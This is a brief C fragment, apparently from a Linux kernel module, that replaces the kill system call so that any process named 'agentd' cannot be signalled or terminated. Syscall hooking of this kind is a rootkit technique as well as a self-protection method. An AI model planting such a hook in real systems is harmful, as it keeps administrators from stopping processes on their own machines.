/* SPDX-License-Identifier: GPL-2.0 */
/* The replacement of kill(2): processes of one name are protected from signals. */
static long new_sys_kill(const struct pt_regs *regs)
{
	char name[TASK_COMM_LEN] = "";
	pid_t pid = (pid_t)regs->di;

	if (pid > 0) {
		get_process_name(pid, name);
		if (!strcmp(name, "agentd"))
			return -EPERM;
	}
	return original_kill(regs);
}
